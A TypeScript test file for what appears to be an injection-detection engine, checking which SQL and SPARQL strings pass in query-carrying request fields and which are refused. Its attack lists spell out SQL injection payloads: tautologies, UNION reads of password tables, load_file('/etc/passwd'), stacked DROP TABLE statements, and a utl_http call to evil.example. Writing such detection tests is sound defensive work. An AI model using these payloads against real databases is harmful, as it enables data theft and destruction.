// Fields that hold a query by what their API is for: one whole query passes at sensitivity 1 and is recorded. What breaks
// out of something, and what joins another query, is refused there as everywhere.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()
const strict = coreEngine({ sensitivity: 2 })

const FIELDS = [
  'body.panels[0].targets[1].rawSql',
  'body.data.object.sql',
  'body.query',
  'body.attributes.db.statement',
  'body.resourceSpans[0].scopeSpans[0].spans[0].attributes[2].value.stringValue',
  'body.breadcrumbs.values[3].message',
  'body.spans[1].description',
]

const QUERIES = [
  'SELECT * FROM balance',
  'SELECT CASE WHEN enabled = 1 THEN 1 ELSE 0 END AS on_off FROM profiles;',
  "SELECT id, name FROM users WHERE kind = 'a' AND id > 5 ORDER BY id LIMIT 5",
  'SELECT a, b FROM "prices" WHERE id BETWEEN 1 AND 5',
  'SELECT a AS time, count(*) FROM logs WHERE $__timeFilter(a) GROUP BY time ORDER BY time',
]

const ATTACKS = [
  'SELECT * FROM users WHERE id = 1 OR 1=1',
  "SELECT * FROM users WHERE a = 'x' OR 'a'='a'",
  'SELECT a FROM users UNION SELECT password FROM admins',
  'SELECT table_name FROM information_schema.tables',
  'SELECT sleep(5) FROM t',
  "SELECT writefile('/srv/x', a) FROM t",
  "SELECT dbms_scheduler.create_job('x') FROM t",
  "SELECT edit(a, 'vi') FROM t",
  "SELECT load_file('/etc/passwd') FROM t",
  "SELECT a FROM b INTO OUTFILE '/tmp/x'",
  'SELECT a FROM b; DROP TABLE c',
  'SELECT a FROM b WHERE c = 1 -- x',
  'SELECT @@version FROM t',
  'SELECT a, b INTO c FROM t',
  "SELECT a, b FROM '/etc/passwd'",
  'SELECT a, b FROM t WHERE b = 2 OR 1',
  'SELECT rolname, rolpassword FROM pg_authid',
  "SELECT a FROM b WHERE c = ' or 1=1 -- '",
  "x' UNION SELECT a FROM b -- ",
  '1; SELECT * FROM b',
]

describe.each(FIELDS)('%s', (name) => {
  test.each(QUERIES)('may hold %j', (query) => {
    const judged = engine.text('json', 'value', name, query)
    expect(judged.refused).toBe(false)
    expect(judged.hits.map((hit) => hit.rule)).toContain('sqli-select')
  })

  test('is judged more strictly from level 2 on', () => {
    expect(strict.text('json', 'value', name, 'SELECT * FROM balance').refused).toBe(true)
  })

  test.each(ATTACKS)('may not hold %j', (text) => {
    expect(engine.text('json', 'value', name, text).refused).toBe(true)
  })
})

const TRACES = [
  'body.attributes.db.statement',
  'body.spans[0].tags.sql.query',
  'body.resourceSpans[0].scopeSpans[0].spans[0].attributes[2].value.stringValue',
  'body.breadcrumbs.values[3].message',
]

describe.each(TRACES)('%s, which tells what a database was asked,', (name) => {
  test.each([
    "INSERT INTO orders (id, name) VALUES (1, 'x')",
    'INSERT INTO "orders" ("a") VALUES ($1) RETURNING "id"',
    "UPDATE orders SET state = 'x', n = n + 1 WHERE id = 5",
    'DELETE FROM orders WHERE id = ?',
  ])('may hold %j', (change) => {
    expect(engine.text('json', 'value', name, change).refused).toBe(false)
  })

  test.each([
    ...ATTACKS,
    'DELETE FROM orders WHERE id = 7 OR 1=1',
    'INSERT INTO a SELECT * FROM users',
    'UPDATE users SET a = (SELECT password FROM users) WHERE id = 1',
    "UPDATE t SET a = load_file('/etc/passwd') WHERE id = 1",
    'INSERT INTO t VALUES (1); DROP TABLE x',
    'UPDATE users SET a = 1 WHERE id = 1 -- x',
  ])('may not hold %j', (text) => {
    expect(engine.text('json', 'value', name, text).refused).toBe(true)
  })
})

test('what is no trace may not hold a change', () => {
  expect(
    engine.text('json', 'value', 'body.query', "INSERT INTO orders (id, name) VALUES (1, 'x')").refused,
  ).toBe(true)
})

test.each(['body.note', 'body.queryId', 'body.mysql.note'])('%s is none of them', (name) => {
  const text = 'SELECT * FROM balance'
  const score = (field: string): number => engine.text('json', 'value', field, text).score
  expect(score(name)).toBeGreaterThan(score('body.query'))
})

test.each(['query', 'form', 'cookie'] as const)('in a %s no name says so', (place) => {
  expect(engine.text(place, 'value', `${place}.sql`, 'SELECT * FROM balance').refused).toBe(true)
})

const refused = (text: string): readonly boolean[] => [
  engine.text('json', 'value', 'body.note', text).refused,
  engine.text('query', 'value', 'query.q', text).refused,
]

describe('a plain query anywhere reckons with an application’s tables, and does no more (CWE-89)', () => {
  test.each([
    'select count(*), max(a) from t where b = 1 group by c',
    "select date_trunc('day', a) from t where lower(b) = 'c'",
  ])('passes: %s', (text) => {
    expect(refused(text)).toEqual([false, false])
  })

  test.each([
    "select a, writefile('/tmp/x', b) from t",
    "select a, edit(b, 'id') from t",
    "select a, utl_http.request('http://evil.example/') from t",
    "select a from t where b = dbms_java.runjava('x')",
    "select a, executable('id') from t",
    'select a, b from "pg_shadow" where c = 1',
    'select a, b from `mysql`.`user` where c = 1',
    'select a, b from "sqlite_master" where c = 1',
    "select a, b from '/etc/passwd' where c = 1",
  ])('refused: %s', (text) => {
    expect(refused(text)).toEqual([true, true])
  })
})

describe('an update of SPARQL’s is sent as its protocol says (SPARQL 1.1 Protocol §2.2)', () => {
  const UPDATES = [
    'DELETE DATA { <s> <p> "o" }',
    '\nDROP SILENT GRAPH <http://a.example/g>',
    'INSERT DATA { <a> <b> <c> }',
  ]

  test.each(UPDATES)('%j passes as the parameter that carries it, and as a body', (text) => {
    expect(engine.text('form', 'value', 'form.update', text).refused).toBe(false)
    expect(engine.text('text', 'value', 'body', text).refused).toBe(false)
  })

  test.each(UPDATES)('%j is refused elsewhere', (text) => {
    expect(refused(text)).toEqual([true, true])
  })

  test('what goes on behind a closed pattern is refused there, too', () => {
    const text = '"x" } ; DELETE DATA { <s> <p> "o" }'
    expect(engine.text('form', 'value', 'form.update', text).refused).toBe(true)
  })
})
